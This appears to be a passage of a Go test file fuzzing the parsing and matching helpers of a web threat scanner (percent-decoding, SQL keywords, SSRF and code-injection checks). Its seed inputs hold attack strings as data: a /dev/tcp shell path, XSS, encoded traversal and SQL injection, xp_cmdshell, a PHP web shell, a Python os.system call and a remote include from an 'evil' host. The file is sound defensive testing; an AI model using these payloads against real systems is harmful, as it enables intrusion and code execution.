	f.Add("rO0ABXNy aced0005 x ACED0005 \xac\xed\x00\x05 H4sIAAAAAAAAAJ 555 000")
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(s)
		for _, ns := range []*needleSet{oobAnchors, cradleAnchors, javaMagicSet, testNeedles} {
			at, in := make([]int, len(ns.needles)), make([]int, len(ns.needles))
			ns.index(b, at)
			ns.indexIn(b, classify(s), in)
			for n, nd := range ns.needles {
				want := indexRare(b, nd)
				if at[n] != want {
					t.Fatalf("index(%q)[%q] = %d, want %d", b, nd, at[n], want)
				}
				if in[n] != want {
					t.Fatalf("indexIn(%q, %b)[%q] = %d, want %d", b, classify(s), nd, in[n], want)
				}
			}
		}
	})
}

// FuzzNextMarked checks nextMarked, eight bytes at a time, against a
// byte loop, from every offset, for its tables, strings and byte slices.
func FuzzNextMarked(f *testing.F) {
	f.Add("plain prose of some length, with no specials at all until here/")
	f.Add("Mixed CASE text 0 2 5 % \\ / $ ; | ` ' \" end")
	f.Add("x=1; y(2) <a> \n\r @b:c, d|e & f")
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		for _, tbl := range []*[256]uint8{&pathSpecial, &shellSpecialMarks, &openerMarks} {
			for j := -1; j <= len(s); j++ {
				want := max(j, 0)
				for want < len(s) && tbl[s[want]] == 0 {
					want++
				}
				if got := nextMarked(tbl, s, j); got != want {
					t.Fatalf("nextMarked(%q, %d) = %d, want %d", s, j, got, want)
				}
				if got := nextMarked(tbl, []byte(s), j); got != want {
					t.Fatalf("nextMarked([]byte(%q), %d) = %d, want %d", s, j, got, want)
				}
			}
		}
	})
}

// FuzzNextOn checks nextOn, asked from offsets that only grow, against
// indexFold.
func FuzzNextOn(f *testing.F) {
	f.Add("one only mother onion ON oN On \" onmouseover=alert(1) x=", uint8(2))
	f.Add(strings.Repeat("the lion and the moon ", 5)+"NO ON", uint8(1))
	f.Add("on", uint8(0))
	f.Fuzz(func(t *testing.T, s string, step uint8) {
		for off := 0; off <= len(s)+1; off += int(step%5) + 1 {
			want := -1
			if off <= len(s) {
				if k := indexFold(s[off:], "on"); k >= 0 {
					want = off + k
				}
			}
			if got := nextOn(s, off); got != want {
				t.Fatalf("nextOn(%q, %d) = %d, want %d", s, off, got, want)
			}
		}
	})
}

// FuzzCommandTokens checks the one lookup of commandTokens against the
// three it stands for, for every name of the three maps and any word.
func FuzzCommandTokens(f *testing.F) {
	for w := range commandClasses {
		f.Add(w)
	}
	for w := range interpreters {
		f.Add(w)
	}
	for w := range fetchers {
		f.Add(w)
	}
	f.Add("the")
	f.Fuzz(func(t *testing.T, w string) {
		want := commandClasses[w] >= cmdName || interpreters[w] || fetchers[w]
		if got := commandTokens[w]; got != want {
			t.Fatalf("commandTokens[%q] = %v, want %v", w, got, want)
		}
	})
}

// tokenShapedPlain is tokenShaped as first written, with bytes.TrimRight.
func tokenShapedPlain(t []byte) bool {
	if len(t) == 2 && t[1] == ':' && isLetter(t[0]) {
		return true
	}
	t = bytes.TrimRight(t, ".,!?:")
	if len(t) == 0 {
		return false
	}
	for _, x := range t {
		if !isLetter(x) && x != '\'' && x < 0x80 {
			return true
		}
	}
	return false
}

// FuzzArgTokens checks what readArgs does with a token without the
// library calls and lookups it used to make: trimSet against bytes.Trim,
// tokenShaped against its plain form, the filter of commandTokens, and
// that hostileArg finds no hostile argument of a command hostileArgsOf
// leaves out unless it starts with '%' or '/'.
func FuzzArgTokens(f *testing.F) {
	f.Add("'%SYSTEMROOT%'", "cmd", true)
	f.Add("/dev/tcp/1.2.3.4/80", "bash", false)
	f.Add("\"x)#", "cat", true)
	f.Add("hello,", "echo", false)
	f.Add("10", "sleep", true)
	f.Fuzz(func(t *testing.T, tok, name string, first bool) {
		b := []byte(tok)
		if got, want := trimSet(b, &argTrim), bytes.Trim(b, "'\")#"); string(got) != string(want) {
			t.Fatalf("trimSet(%q) = %q, want %q", b, got, want)
		}
		if got, want := tokenShaped(b), tokenShapedPlain(b); got != want {
			t.Fatalf("tokenShaped(%q) = %v, want %v", b, got, want)
		}
		if commandTokens[tok] && !commandTokenWords.may(b) {
			t.Fatalf("commandTokenWords misses %q", tok)
		}
		for _, n := range []string{name, "cmd", "curl", "ping", "sleep", "which", "echo", "cat", "ls"} {
			c := &command{name: []byte(n)}
			if len(b) > 0 && !hostileArgsOf(c.name) && !(len(b) > 2 && (b[0] == '%' || b[0] == '/')) {
				for _, line := range []bool{false, true} {
					if hostileArg(c, b, first, line) {
						t.Fatalf("hostileArg(%q, %q) is true, but readArgs does not ask", n, b)
					}
				}
			}
		}
	})
}

// TestCommandTokenWords checks that every name of commandTokens passes
// its filter.
func TestCommandTokenWords(t *testing.T) {
	for w := range commandTokens {
		if !commandTokenWords.may([]byte(w)) {
			t.Errorf("commandTokenWords misses %q", w)
		}
	}
}

// unpercentPlain is unpercent as first written: every byte appended and
// the escapes it completes undone.
func unpercentPlain(buf []byte, s string, plus bool) (out []byte, exotic int) {
	for i := 0; i < len(s); i++ {
		if s[i] == '+' && plus {
			buf = append(buf, ' ')
			continue
		}
		buf = append(buf, s[i])
		for level := 0; level < 4; level++ {
			n := len(buf)
			if n >= 3 && buf[n-3] == '%' && isHex(buf[n-2]) && isHex(buf[n-1]) {
				c := unhex1(buf[n-2])<<4 | unhex1(buf[n-1])
				buf = append(buf[:n-3], c)
				if c == '%' || level > 0 {
					exotic++
				}
				continue
			}
			if n >= 4 && buf[n-4] == '%' && isHex(buf[n-3]) && buf[n-2] == '%' && isHex(buf[n-1]) {
				if c := unhex1(buf[n-3])<<4 | unhex1(buf[n-1]); c == '.' || c == '/' || c == '\\' {
					buf = append(buf[:n-4], c)
					exotic++
					continue
				}
			}
			if n >= 6 && buf[n-6] == '%' && (buf[n-5] == 'u' || buf[n-5] == 'U') &&
				isHex(buf[n-4]) && isHex(buf[n-3]) && isHex(buf[n-2]) && isHex(buf[n-1]) {
				r := rune(unhex1(buf[n-4]))<<12 | rune(unhex1(buf[n-3]))<<8 | rune(unhex1(buf[n-2]))<<4 | rune(unhex1(buf[n-1]))
				buf = utf8.AppendRune(buf[:n-6], r)
				exotic++
				continue
			}
			break
		}
	}
	return buf, exotic
}

// FuzzUnpercent checks unpercent, which copies runs without escapes
// whole, against the plain form, after a prefix already in the buffer.
func FuzzUnpercent(f *testing.F) {
	f.Add("", "the+quick%2C+brown+fox%3A+%22x%22", true)
	f.Add("a%", "2e%2e%252f..%2%f%u002e%U2215+x", false)
	f.Add("%u00", "2e and %%32%65 plain text here", true)
	f.Add("", "%25%32%65%25%32%65%2f%c0%ae", false)
	// doubly and triply encoded bytes, whole payloads of them, and one
	// after a '%' the buffer or a half escape left
	f.Add("", "%2527%2520union%2520select%2520%2525252e%252e%252f", true)
	f.Add("x%", "2527%25%2541%2541%252", false)
	f.Add("%2", "%2565%252%2565%25u002e", true)
	f.Fuzz(func(t *testing.T, prefix, s string, plus bool) {
		gb, ge := unpercent([]byte(prefix), s, plus)
		wb, we := unpercentPlain([]byte(prefix), s, plus)
		if string(gb) != string(wb) || ge != we {
			t.Fatalf("unpercent(%q, %q, %v) = %q %d, want %q %d", prefix, s, plus, gb, ge, wb, we)
		}
	})
}

// FuzzEscapedBackslash checks escapedBackslash against strings.Contains.
func FuzzEscapedBackslash(f *testing.F) {
	f.Add("a%5cb")
	f.Add("%5%5C")
	f.Add("%%5")
	f.Add("x%2C+y%5")
	f.Fuzz(func(t *testing.T, s string) {
		want := strings.Contains(s, "%5c") || strings.Contains(s, "%5C")
		if got := escapedBackslash(s); got != want {
			t.Fatalf("escapedBackslash(%q) = %v, want %v", s, got, want)
		}
	})
}

// FuzzReplaceByte checks replaceByte, eight bytes at a time, against
// bytes.ReplaceAll.
func FuzzReplaceByte(f *testing.F) {
	f.Add("the+quick+brown+fox+++jumps", byte('+'), byte(' '))
	f.Add("\x00\x80\xff+\xab\x2b\xab", byte(0xab), byte(0))
	f.Fuzz(func(t *testing.T, s string, old, new byte) {
		got := []byte(s)
		replaceByte(got, old, new)
		if want := bytes.ReplaceAll([]byte(s), []byte{old}, []byte{new}); string(got) != string(want) {
			t.Fatalf("replaceByte(%q, %q, %q) = %q, want %q", s, old, new, got, want)
		}
	})
}

// FuzzIndexPair checks indexPair against bytes.Index, at every alignment
// of the value.
func FuzzIndexPair(f *testing.F) {
	f.Add("the toast of the coast: oast.me", "oast")
	f.Add("aaaaaaaaaaaaaaaaab", "ab")
	f.Add("\x80\x81\x80\x81\x00\x00\x00\x00\x00\x00\x00\x00\x00", "\x00\x00")
	f.Fuzz(func(t *testing.T, s, needle string) {
		if len(needle) < 2 {
			return
		}
		for pad := 0; pad < 9; pad++ {
			b := []byte(strings.Repeat("~", pad) + s)
			if got, want := indexPair(b, needle), bytes.Index(b, []byte(needle)); got != want {
				t.Fatalf("indexPair(%q, %q) = %d, want %d", b, needle, got, want)
			}
		}
	})
}

// FuzzSQLWordEnd checks sqlWordEnd, eight bytes at a time, against a byte
// loop, from every offset.
func FuzzSQLWordEnd(f *testing.F) {
	f.Add("select_1$x from t where a=1 AND b@c[d]`e`{f} \x80\xff\x7f ZZzz09:;?")
	f.Add("abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ 0123456789 _$")
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		for j := 0; j <= len(s); j++ {
			want := j
			for want < len(s) && sqlWordByte(s[want]) {
				want++
			}
			if got := sqlWordEnd(s, j); got != want {
				t.Fatalf("sqlWordEnd(%q, %d) = %d, want %d", s, j, got, want)
			}
		}
	})
}

// TestSQLWordEndBytes checks sqlWordEnd on every byte, before a word
// byte and a non-word one, at every position of a block.
func TestSQLWordEndBytes(t *testing.T) {
	for c := 0; c < 256; c++ {
		for pos := 0; pos < 9; pos++ {
			for _, fill := range []byte{'a', ' '} {
				b := []byte(strings.Repeat("a", pos) + string([]byte{byte(c)}) + strings.Repeat(string([]byte{fill}), 9))
				want := 0
				for want < len(b) && sqlWordByte(b[want]) {
					want++
				}
				if got := sqlWordEnd(string(b), 0); got != want {
					t.Fatalf("sqlWordEnd(%q) = %d, want %d", b, got, want)
				}
			}
		}
	}
}

// FuzzSQLPairLens checks that sqlPairLens lets every word sqlKeyword
// knows through: the lexer's loop asks sqlKeyword only about those.
func FuzzSQLPairLens(f *testing.F) {
	for w := range sqlWords {
		f.Add(w)
		f.Add(strings.ToUpper(w))
	}
	f.Add("xp_cmdshell")
	f.Add("Sp_OACreate")
	f.Add("the")
	f.Fuzz(func(t *testing.T, w string) {
		if sqlKeyword(w) == kwNone {
			return
		}
		if n := len(w); n < 2 || n > sqlMaxWord || sqlPairLens[sqlPair(w[0], w[1])]&(1<<n) == 0 {
			t.Fatalf("sqlPairLens misses %q, keyword %d", w, sqlKeyword(w))
		}
	})
}

// FuzzSharedLower checks that the families reading the shared lower-cased
// copy of a long value (input.lowerValue: the SSRF and code families)
// leave it as lowerValue made it: a family that wrote into it would change
// what the next one reads.
func FuzzSharedLower(f *testing.F) {
	f.Add("see http://127.0.0.1:6379/ and include 'http://evil/x.txt'; __import__('os').system('id') oast.fun ", 6)
	f.Add("Ⓛocalhost \\\\srv\\share <?php system($_GET['c']); ?> GOPHER://[::1]/_x", 9)
	f.Fuzz(func(t *testing.T, s string, n int) {
		v := strings.Repeat(s, 1+min(max(n, 0), 64)) // past the families' stack buffers
		if len(v) <= 512 {
			v += strings.Repeat(" x", 300)
		}
		in := &input{src: threat.SourceQuery, name: "q", value: v, m: classify(v)}
		var seen rules
		scanSSRF(in, &seen, nil)
		scanCode(in, &seen, nil)
		if in.lowered {
			if want := lower(nil, v); !bytes.Equal(in.lo, want) {
				t.Fatalf("the shared lower-cased copy of %q changed", v)
			}
		}
		in.release()
	})
}
